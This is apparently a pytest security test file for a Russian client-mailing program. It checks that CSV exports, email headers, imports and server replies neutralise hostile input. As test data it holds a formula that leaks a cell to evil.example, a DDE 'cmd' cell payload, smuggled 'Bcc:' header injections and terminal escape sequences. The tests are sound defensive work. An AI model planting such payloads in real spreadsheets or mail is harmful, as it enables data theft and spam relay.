"""What a hostile input can no longer do: each class of attack, checked where it enters."""

from __future__ import annotations

import csv
import io

import pytest

from avtoprokat_mail.interchange import export_clients
from avtoprokat_mail.model import Client
from avtoprokat_mail.storage import clients as client_store
from avtoprokat_mail.validation import spreadsheet_safe


def wire_bytes(template, client, *, fast: bool) -> bytes:
    """The message as it goes out: through the engine's fast path or build_email."""
    from avtoprokat_mail.sending.message import EmailFactory, Sender, build_email

    sender = Sender("Офис", "office@avtoprokat.ru")
    built = (
        EmailFactory(template, sender).build(client)
        if fast
        else build_email(template, client, sender)
    )
    return built if isinstance(built, bytes) else built.as_bytes()


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Скидка")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("+79031112233", "+79031112233"),  # a mobile in E.164 stays a phone
        ("-15", "-15"),  # a plain number stays a number
        ("+7,5", "+7,5"),
        ("Иванов", "Иванов"),
        (42, 42),
    ],
)
def test_a_cell_excel_would_run_as_a_formula_is_neutralised(value, written):
    assert spreadsheet_safe(value) == written


def test_the_clients_csv_neutralises_formulas_and_keeps_phones(db, tmp_path):
    client_store.add_client(
        db, Client(surname=HOSTILE, name="@Пётр", email="p@x.example", mobile="+79031112233")
    )
    target = tmp_path / "клиенты.csv"
    export_clients(db, target)
    header, row = list(csv.reader(io.StringIO(target.read_bytes().decode("cp1251")), delimiter=";"))
    assert row[0] == "'" + HOSTILE and row[1] == "'@Пётр"
    assert row[header.index("Сотовый телефон")] == "+79031112233"


def test_the_command_lines_csv_neutralises_formulas(cli, db):
    client_store.add_client(db, Client(surname=HOSTILE, email="p@x.example"))
    status, out, _ = cli("clients", "list", "--format", "csv")
    assert status == 0
    (_header, row) = list(csv.reader(io.StringIO(out)))
    assert row[1] == "'" + HOSTILE


def test_a_neutralised_cell_reads_back_as_it_was(db, tmp_path):
    """The apostrophe only protects the file: importing our own export restores the value."""
    from avtoprokat_mail.interchange import apply_import, plan_import

    client_store.add_client(db, Client(surname="-Иванов", phone="+7 (495) 123-45-67"))
    target = tmp_path / "клиенты.csv"
    export_clients(db, target)
    db.execute("DELETE FROM clients")
    apply_import(db, plan_import(db, target))
    (client,) = client_store.list_clients(db)
    assert (client.surname, client.phone) == ("-Иванов", "+7 (495) 123-45-67")


@pytest.mark.parametrize("fast", [True, False])
def test_a_templates_own_subject_cannot_inject_a_header(tmp_path, fast):
    """CVE-2024-6923 on Python 3.11/3.12: an encoded line break in the subject text itself
    (an ASCII subject: a Cyrillic one goes through our own encoder, which was safe already)."""
    import email
    from email import policy

    from avtoprokat_mail.model import Template

    template = Template(subject="Sale =?UTF-8?Q?=0A?=Bcc: spy@evil.example", body="Текст")
    client = Client(surname="Иванов", email="ivanov@mail.ru")
    wire = wire_bytes(template, client, fast=fast)
    message = email.message_from_bytes(wire, policy=policy.default)
    assert message["Bcc"] is None and b"\r\nBcc:" not in wire
    assert "spy@evil.example" in message["Subject"]  # kept as harmless text


def test_an_email_local_part_over_64_octets_is_refused():
    from avtoprokat_mail.validation import email_problem

    assert email_problem("a" * 64 + "@mail.ru") is None
    assert "не больше 64" in email_problem("a" * 65 + "@mail.ru")
    assert email_problem("я" * 33 + "@почта.рф")  # 66 octets in UTF-8


@pytest.mark.parametrize("digits", ["９０３１１１２２３３", "٩٠٣١١١٢٢٣٣", "۹۰۳۱۱۱۲۲۳۳"])
def test_look_alike_digits_are_no_valid_mobile_but_normalise_to_ascii(digits):
    from avtoprokat_mail.validation import is_valid_mobile, mobile_for_sending

    look_alike = "+7" + digits
    assert not is_valid_mobile(look_alike)
    assert mobile_for_sending(look_alike) in (None, "+79031112233")  # ASCII, or refused


def test_an_attachment_name_with_a_line_break_is_a_clear_error_everywhere(db, tmp_path, cli):
    """Refused on saving; and a run or a preview of a template that holds one (written to the
    database by another version, or by hand) stops with a Russian reason, never a traceback."""
    from avtoprokat_mail.model import Channel, Route, RunStatus, Template
    from avtoprokat_mail.sending.campaign import Campaign, plan_run
    from avtoprokat_mail.sending.lifecycle import start_run
    from avtoprokat_mail.sending.outbox import OutboxTransport
    from avtoprokat_mail.sending.template_check import check_template
    from avtoprokat_mail.storage import database_file
    from avtoprokat_mail.storage import templates as template_store

    odd = tmp_path / "прайс\nBcc: spy@evil.example.pdf"
    odd.write_bytes(b"%PDF")
    template = Template(subject="Скидка", body="Текст", attachment1=str(odd))
    assert any("перевод строки" in error for error in check_template(template).errors)

    template_id = template_store.add_template(db, template)
    client_store.add_client(db, Client(surname="Иванов", email="ivanov@mail.ru", marked=True))
    status, _, err = cli("templates", "preview", str(template_id), "--client", "1")
    assert status == 2 and "перевод строки" in err and "Traceback" not in err

    template = template_store.get_template(db, template_id)
    run_id = start_run(db, plan_run(db, template, again=True), Route.direct(Channel.EMAIL))
    final = Campaign(database_file(db), run_id, OutboxTransport(tmp_path / "out")).run()
    assert final.status is RunStatus.STOPPED and "перевод строки" in final.reason
    assert final.pending == 1  # nobody lost: it can be finished once the file is renamed


def test_control_characters_are_never_stored_nor_printed(db, cli, tmp_path):
    """ESC and BEL would drive the terminal of «clients list»; a NUL would reach a header."""
    from avtoprokat_mail.interchange import apply_import, plan_import
    from avtoprokat_mail.model import Template
    from avtoprokat_mail.storage import templates as template_store

    client_store.add_client(
        db, Client(surname="Ива\x1b[2Jнов", name="Пётр\x00", note="строка 1\r\nстрока 2\x07")
    )
    source = tmp_path / "клиенты.csv"
    source.write_text("Фамилия;Email\nСидо\x1b[31m\x07ров;s@mail.ru\n", encoding="utf-8")
    apply_import(db, plan_import(db, source))
    template_store.add_template(db, Template(subject="Тема\x00\x1b", body="Текст\x07\nдалее"))

    first, second = client_store.list_clients(db)
    assert (first.surname, first.name, first.note) == ("Ива[2Jнов", "Пётр", "строка 1\nстрока 2")
    assert second.surname == "Сидо[31mров"
    (template,) = template_store.list_templates(db)
    assert (template.subject, template.body) == ("Тема", "Текст\nдалее")
    db.execute("UPDATE clients SET surname = 'Стар\x1bый' WHERE id = 1")  # an old database
    status, out, _ = cli("clients", "list")
    assert status == 0 and "\x1b" not in out and "\x07" not in out


@pytest.mark.parametrize(
    "name",
    [
        "<someone@else.example>, " + "y" * 80,
        'Ivanov: the "boss", <x@y.z>' + " word" * 20,
        "Петров, <spy@evil.example>; группа:",
        "A" * 1200,  # one unbreakable token: no line may pass 998 octets
    ],
)
@pytest.mark.parametrize("fast", [True, False])
def test_a_hostile_display_name_reads_back_as_the_clients_one_address(name, fast):
    import email
    from email import policy

    from avtoprokat_mail.model import Template

    template = Template(subject="Скидка", body="Текст")
    client = Client(surname=name, email="client@mail.ru")
    wire = wire_bytes(template, client, fast=fast)
    message = email.message_from_bytes(wire, policy=policy.default)
    (address,) = message["To"].addresses
    assert address.addr_spec == "client@mail.ru"
    # Python's address parser keeps the folding space between two encoded-words (RFC 2047
    # says to drop it, as mail readers do): compare the name without spaces.
    assert address.display_name.replace(" ", "") == name.replace(" ", "")
    assert max(len(line) for line in wire.split(b"\r\n")) <= 998


def test_a_size_refusal_at_mail_from_is_said_as_a_size_problem(
    db, tmp_path, faulty_server, trust_test_ca
):
    """552 at MAIL FROM (the SIZE extension) is the message's size, not the sender address."""
    from avtoprokat_mail.model import Channel, Route, RunStatus, Security
    from avtoprokat_mail.sending.campaign import Campaign, plan_run
    from avtoprokat_mail.sending.lifecycle import start_run
    from avtoprokat_mail.sending.smtp import SmtpTransport
    from avtoprokat_mail.storage import database_file
    from tests.mailing_data import add_clients, add_template, russian_clients
    from tests.smtp_servers import PASSWORD, FaultyHandler

    server = faulty_server(FaultyHandler(mail_reply="552 5.3.4 Message size exceeds fixed limit"))
    add_clients(db, russian_clients(3))
    run_id = start_run(db, plan_run(db, add_template(db)), Route.direct(Channel.EMAIL))
    transport = SmtpTransport(server.settings(Security.STARTTLS, auth=True), PASSWORD)
    final = Campaign(database_file(db), run_id, transport, retry_delays=(0.01,)).run()
    assert final.status is RunStatus.STOPPED and final.pending == 3
    assert "слишком большое" in final.reason and "Email отправителя" not in final.reason


def test_a_password_about_to_go_in_clear_text_is_warned_about(
    db, cli, test_ca, trust_test_ca, memory_keyring
):
    """security = none with a login, against a server that offers STARTTLS but takes a password
    in the clear too: the check says so and suggests STARTTLS; «Старт» and send warn."""
    from avtoprokat_mail.credentials import PasswordStore
    from avtoprokat_mail.model import Security
    from avtoprokat_mail.sending.lifecycle import Mailer
    from avtoprokat_mail.sending.smtp import check_smtp
    from avtoprokat_mail.storage.settings import save_email_settings
    from tests.mailing_data import add_clients, add_template, russian_clients
    from tests.smtp_servers import PASSWORD, start_smtp_server

    careless = start_smtp_server(
        starttls=test_ca.server_context(), auth_in_clear=True, require_starttls=False
    )
    try:
        settings = careless.settings(Security.NONE, auth=True)
        result = check_smtp(settings, PASSWORD)
    finally:
        careless.stop()
    assert result.ok and "выберите шифрование STARTTLS" in result.message

    save_email_settings(db, settings)
    add_clients(db, russian_clients(2))
    template = add_template(db)
    plan = Mailer(db, PasswordStore()).plan(template)
    assert any("без шифрования" in warning for warning in plan.warnings)
    from avtoprokat_mail.credentials import smtp_account

    PasswordStore().set(smtp_account(settings), PASSWORD)
    status, _, err = cli("send", str(template.id))  # no terminal: the summary, then no start
    assert status == 2 and "Внимание: Пароль от" in err and "без шифрования" in err


# --- secrets echoed back by a server -----------------------------------------------------------
@pytest.mark.parametrize(
    ("text", "secret", "shown"),
    [
        # the password equal to the login's local part: the login stays whole
        ("логин «ivan@example.com» не принят", "ivan", "логин «ivan@example.com» не принят"),
        # a one-letter password leaves words and host names alone
        ("Сервер smtp.mail.ru и a.example", "a", "Сервер smtp.mail.ru и a.example"),
        # where it is the secret, it goes
        ("bad password hunter2!", "hunter2!", "bad password ***"),
        ("bad password «hunter2»", "hunter2", "bad password «***»"),
        (
            "strange error for psw=Secr%C3%A9t&login=ivan",
            "Secrét",
            "strange error for psw=***&login=ivan",
        ),
        ("echo: AGl2YW5AZXhhbXBsZS5jb20AaHVudGVyMg==", "hunter2", "echo: ***"),
        ("echo: aHVudGVyMg", "hunter2", "echo: ***"),  # AUTH LOGIN's password line, unpadded
        (
            "echo: aXZhbkBleGFtcGxlLmNvbQ==",
            "hunter2",
            "echo: aXZhbkBleGFtcGxlLmNvbQ==",
        ),  # login only
    ],
)
def test_a_secret_is_hidden_only_where_it_stands_as_a_secret(text, secret, shown):
    from avtoprokat_mail.redaction import hide_secret

    assert hide_secret(text, secret) == shown


def _echoing_server(scripted_server, password: str, mechanism: str):
    """A server that quotes the client's whole AUTH exchange in its refusal."""
    from base64 import b64encode

    from tests.smtp_servers import USER

    def b64(text: str) -> str:
        return b64encode(text.encode()).decode()

    if mechanism == "PLAIN":
        refusal = f"535 5.7.8 Bad credentials: AUTH PLAIN {b64(chr(0) + USER + chr(0) + password)}"
        exchange = [refusal]
    else:
        refusal = f"535 5.7.8 Rejected {b64(USER)} / {b64(password)} ({password})"
        exchange = ["334 UGFzc3dvcmQ6", refusal]
    replies = [
        b"220 echo.example ESMTP\r\n",
        f"250-echo.example\r\n250 AUTH {mechanism}\r\n".encode(),
        *(line.encode() + b"\r\n" for line in exchange),
    ]
    return scripted_server(replies, hang_up=True)


@pytest.mark.parametrize("mechanism", ["PLAIN", "LOGIN"])
def test_an_echoed_auth_exchange_reaches_no_message_log_database_or_stderr(
    db, cli, scripted_server, memory_keyring, caplog, mechanism
):
    """The refusal quotes the base64 of login and password: the user still sees the reply,
    without the secret, on screen, in the log, in runs.reason and on stderr."""
    import logging
    from base64 import b64encode

    from avtoprokat_mail.credentials import PasswordStore, smtp_account
    from avtoprokat_mail.model import Security
    from avtoprokat_mail.sending.smtp import check_smtp
    from avtoprokat_mail.storage.settings import save_email_settings
    from tests.mailing_data import add_clients, add_template, russian_clients

    password = "Пароль-42"
    from tests.smtp_servers import USER

    forms = [
        password,
        *(b64encode(f.encode()).decode() for f in (password, f"\0{USER}\0{password}")),
    ]
    server = _echoing_server(scripted_server, password, mechanism)
    settings = server.settings(Security.NONE, auth=True)
    caplog.set_level(logging.DEBUG)

    result = check_smtp(settings, password)
    assert not result.ok and "не принял логин" in result.message and "535" in result.message
    assert "***" in result.message

    save_email_settings(db, settings)
    PasswordStore().set(smtp_account(settings), password)
    add_clients(db, russian_clients(2))
    template = add_template(db)
    status, out, err = cli("send", str(template.id), "--yes")
    assert status == 2 and "не принял логин" in err
    reasons = [row[0] or "" for row in db.execute("SELECT reason FROM runs")]
    logged = caplog.text + "".join(path.read_text("utf-8", "replace") for path in db_log_files(db))
    for place in (result.message, out + err, " ".join(reasons), logged):
        for form in forms:
            assert form not in place


def db_log_files(db):
    """The program's log files next to the test's database, if it wrote any."""
    from avtoprokat_mail.storage import database_file

    return list(database_file(db).parent.rglob("*.log"))


# --- a server that trickles its replies --------------------------------------------------------
def test_a_trickling_server_fails_the_connection_test_by_its_deadline(
    scripted_server, cli, db, memory_keyring
):
    """One byte every 0.1 s never trips a 1-second socket timeout: the reply's own deadline
    does, in «Проверить соединение» and in settings test alike."""
    from avtoprokat_mail.model import Security
    from avtoprokat_mail.sending.smtp import check_smtp
    from avtoprokat_mail.storage.settings import save_email_settings

    # Without a deadline on the reply the test would pass after some 12 s of trickle.
    greeting = b"220-" + b"x" * 40 + b"\r\n220 slow.example ESMTP\r\n"
    replies = [greeting, b"250 slow.example\r\n", b"250 OK\r\n", b"221 Bye\r\n"]
    server = scripted_server(replies, trickle=0.1)
    settings = server.settings(Security.NONE, timeout=1)

    result = check_smtp(settings, None)
    assert not result.ok and "не ответил за 1 с" in result.message

    save_email_settings(db, settings)
    status, out, err = cli("settings", "test")
    assert status != 0 and "не ответил за 1 с" in out + err


def test_a_reply_trickled_after_the_message_makes_it_uncertain_not_a_hang(
    db, faulty_server, trust_test_ca
):
    """The answer to a sent message trickles in: the reply is lost by its deadline, the
    message counts as uncertain (it may have arrived) and the run goes on with the others."""
    from collections import Counter

    from avtoprokat_mail.model import Channel, DeliveryStatus, Route, RunStatus, Security
    from avtoprokat_mail.sending.campaign import Campaign, plan_run
    from avtoprokat_mail.sending.lifecycle import start_run
    from avtoprokat_mail.sending.smtp import SmtpTransport
    from avtoprokat_mail.storage import database_file
    from tests.mailing_data import add_clients, add_template, russian_clients
    from tests.smtp_servers import PASSWORD, FaultyHandler

    clients = russian_clients(3)
    add_clients(db, clients)
    slow = clients[1].email
    handler = FaultyHandler(trickle_after_data_once=[slow])
    server = faulty_server(handler)
    run_id = start_run(db, plan_run(db, add_template(db)), Route.direct(Channel.EMAIL))
    transport = SmtpTransport(server.settings(Security.STARTTLS, auth=True, timeout=1), PASSWORD)

    final = Campaign(database_file(db), run_id, transport, retry_delays=(0.01,)).run()

    assert (final.status, final.sent, final.uncertain) == (RunStatus.FINISHED, 2, 1)
    status = db.execute(
        "SELECT status FROM deliveries WHERE run_id = ? AND recipient = ?", (run_id, slow)
    ).fetchone()[0]
    assert status == DeliveryStatus.UNCERTAIN.value
    assert Counter(e.rcpt_tos[0] for e in handler.envelopes)[slow] == 1


@pytest.mark.parametrize("provider", ["smsru", "smsc"])
def test_an_sms_answer_trickled_after_the_send_is_a_timeout_and_uncertain(provider, tmp_path):
    """Each byte of the answer comes well within the timeout, the answer as a whole does not:
    the request ends by its deadline and the SMS counts as maybe sent (it did go out)."""
    from avtoprokat_mail.sending.sms.gateway import FailureKind
    from tests.sms_gateways import Behaviour, FakeGateway
    from tests.test_sms_send import (
        PHONE,
        SENDER,
        SMSC_PASSWORD_LOGIN,
        SMSRU_KEY,
        TEXT,
        failure_of,
        gateway,
    )

    account = SMSRU_KEY if provider == "smsru" else SMSC_PASSWORD_LOGIN
    with FakeGateway() as fake:
        fake.behaviour = Behaviour.TRICKLE_AFTER_SEND
        failure = failure_of(lambda: gateway(fake, *account, timeout=0.5).send(PHONE, TEXT))
        assert (failure.kind, failure.uncertain) == (FailureKind.NETWORK, True)
        assert "не ответил за 0.5 с" in failure.message
        assert fake.sent == [(PHONE, TEXT, SENDER)]


def test_an_imap_server_trickling_its_greeting_fails_by_the_lines_deadline(scripted_server):
    """IMAP lines too: the connection test and the mailbox check stop at the line's deadline."""
    from avtoprokat_mail.model import ImapSettings, Security
    from avtoprokat_mail.sending.imap import InboxError, read_inbox

    server = scripted_server([b"* OK " + b"x" * 100 + b"\r\n"], trickle=0.1)
    settings = ImapSettings(host=server.host, port=server.port, security=Security.NONE)
    with pytest.raises(InboxError, match="не ответил за 1 с"):
        read_inbox(settings, "user", "password", timeout=1)


# --- files that hold more, or other, than they seem --------------------------------------------
CLIENTS_CSV = (
    "Фамилия;Имя;Email\r\nИванов;Пётр;ivanov@mail.ru\r\nСмирнова;Анна;smirnova@mail.ru\r\n"
)


def _plan(db, path):
    from avtoprokat_mail.interchange import plan_import

    return plan_import(db, path)


@pytest.mark.parametrize(("codec", "name"), [("koi8-r", "KOI8-R"), ("cp866", "CP866")])
def test_a_koi8_or_dos_csv_is_read_in_its_encoding_and_said_so(db, cli, tmp_path, codec, name):
    path = tmp_path / "клиенты.csv"
    path.write_bytes(CLIENTS_CSV.encode(codec))
    plan = _plan(db, path)
    assert sorted(c.surname for c in plan.added) == ["Иванов", "Смирнова"]
    assert any(name in note for note in plan.notes)
    status, out, err = cli("clients", "import", str(path))
    assert status == 0 and "imported 2" in out and name in err


def test_a_csv_in_no_known_encoding_is_said_to_be_unrecognised(db, cli, tmp_path):
    path = tmp_path / "клиенты.csv"
    # Symbols and rare letters in each of Windows-1251, KOI8-R and CP866:
    path.write_bytes(b"Name;Email\r\n" + b"\xb0\xb1\xb2\xb3\xdb\xdc\xdd\xde;a@mail.ru\r\n")
    assert any("не распознана" in note for note in _plan(db, path).notes)
    status, _out, err = cli("clients", "import", str(path), "--dry-run")
    assert status == 0 and "Кодировка файла не распознана" in err


def test_an_over_long_csv_cell_rejects_its_row_only(db, cli, tmp_path):
    path = tmp_path / "клиенты.csv"
    long_name = "Я" * 40_000
    path.write_text(
        f"Фамилия;Имя;Email\r\nИванов;{long_name};ivanov@mail.ru\r\nСмирнова;Анна;s@mail.ru\r\n",
        encoding="utf-8",
    )
    plan = _plan(db, path)
    assert [c.surname for c in plan.added] == ["Смирнова"]
    assert [(r.line, "длиннее 32\u00a0767 знаков" in r.reason) for r in plan.rejected] == [
        (2, True)
    ]
    _status, out, err = cli("clients", "import", str(path))
    assert "строка 2: значение длиннее" in err and "imported 1, updated 0, rejected 1" in out
    assert max(len(c.name) for c in client_store.list_clients(db)) < 100


def _workbook(path, rows, **cells):
    """Save a workbook of ``rows`` (and single ``cells`` such as XFD2="x") at ``path``."""
    import openpyxl

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    for coordinate, value in cells.items():
        sheet[coordinate] = value
    workbook.save(path)


def _swell(path, placeholder: str, text: str) -> None:
    """Put ``text`` where ``placeholder`` is in the saved workbook's XML: openpyxl itself
    cuts a cell to Excel's 32,767 characters, other programs need not."""
    import zipfile

    with zipfile.ZipFile(path) as archive:
        parts = {info: archive.read(info) for info in archive.infolist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for info, data in parts.items():
            archive.writestr(info, data.replace(placeholder.encode(), text.encode()))


def test_an_over_long_xlsx_cell_rejects_its_row_naming_the_cell(db, tmp_path):
    path = tmp_path / "клиенты.xlsx"
    _workbook(path, [["Фамилия", "Имя", "Email"], ["Иванов", "ДЛИННОЕ", "i@mail.ru"],
                     ["Смирнова", "Анна", "s@mail.ru"]])  # fmt: skip
    _swell(path, "ДЛИННОЕ", "Я" * 32_768)
    plan = _plan(db, path)
    assert [c.surname for c in plan.added] == ["Смирнова"]
    (rejected,) = plan.rejected
    assert rejected.line == 2 and "ячейка B2 длиннее" in rejected.reason


def test_an_xlsx_that_unpacks_to_too_much_is_refused_before_it_is_read(db, tmp_path, monkeypatch):
    """A few hundred kilobytes of zip can hold hundreds of megabytes of text: the declared
    unpacked size is checked first (here the limit is lowered to keep the test small)."""
    from avtoprokat_mail.interchange import InterchangeError, reading

    path = tmp_path / "клиенты.xlsx"
    _workbook(path, [["Фамилия", "Имя", "Email"], ["Иванов", "ДЛИННОЕ", ""]])
    _swell(path, "ДЛИННОЕ", "x" * 3_000_000)
    assert path.stat().st_size < 100_000
    monkeypatch.setattr(reading, "MAX_UNPACKED_BYTES", 2 * 2**20)
    with pytest.raises(InterchangeError, match="в распакованном виде занимает 3 МБ"):
        _plan(db, path)


def test_a_sparse_xlsx_row_is_read_to_the_header_and_the_stray_cell_named(db, tmp_path):
    path = tmp_path / "клиенты.xlsx"
    _workbook(path, [["Фамилия", "Имя", "Email"], ["Иванов", "Пётр", "i@mail.ru"]], XFD2="забыто")
    plan = _plan(db, path)
    assert [(c.surname, c.name) for c in plan.added] == [("Иванов", "Пётр")]
    assert any("XFD2" in note and "нет заголовка" in note for note in plan.notes)


def test_formulas_without_stored_values_are_said_not_dropped_silently(db, cli, tmp_path):
    """openpyxl, like many programs other than Excel, writes formulas without their value."""
    path = tmp_path / "клиенты.xlsx"
    _workbook(path, [["Фамилия", "Имя", "Email"], ["Иванов", "Пётр", '=LOWER("I")&"@mail.ru"'],
                     ["Смирнова", "Анна", "s@mail.ru"]])  # fmt: skip
    (note,) = _plan(db, path).notes
    assert "В 1 ячейке формулы без сохранённого значения (C2)" in note
    _status, _out, err = cli("clients", "import", str(path), "--dry-run")
    assert "формулы без сохранённого значения (C2)" in err


def test_the_import_preview_shows_what_was_not_read(tk_root, db, tmp_path):
    from avtoprokat_mail.ui.import_dialog import ImportPreview
    from tests.gui_helpers import pump

    path = tmp_path / "клиенты.csv"
    path.write_bytes(CLIENTS_CSV.encode("koi8-r"))
    preview = ImportPreview.start(tk_root, db, path, on_done=lambda: None)
    try:
        pump(tk_root)
        assert "KOI8-R" in preview.notes_label.cget("text")
        assert preview.notes_label.winfo_ismapped()
    finally:
        preview.destroy()
